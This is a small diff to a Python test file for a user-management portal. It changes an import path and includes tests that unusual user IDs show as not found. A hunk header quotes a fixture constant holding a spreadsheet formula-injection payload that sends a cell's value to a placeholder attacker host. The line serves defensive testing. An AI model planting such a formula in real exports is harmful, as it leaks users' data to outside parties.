@@ -20,7 +20,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 @pytest.mark.parametrize("raw", ["²", "1²", "٣", "99999999999999999999999", "-1", "0"])
 def test_a_user_id_that_is_not_ascii_digits_is_not_found(seeded, raw):
-    from opkalla_portal.state.users import UserEditState
+    from opkalla_portal.state.user_edit import UserEditState
     from tests.support.test_handlers import make_state
 
     dana = make_state(UserEditState, DANA, "/manage-users/user")._identity()
@@ -36,7 +36,7 @@ def test_the_user_page_with_a_superscript_id_shows_not_found(seeded):
     from opkalla_portal.db import session_scope
     from opkalla_portal.models import PortalUser
     from opkalla_portal.services.sessions import SESSION_COOKIE, create_session
-    from opkalla_portal.state.users import UserEditState
+    from opkalla_portal.state.user_edit import UserEditState
 
     with session_scope() as db:
         dana = db.exec(select(PortalUser).where(PortalUser.email == DANA)).one()
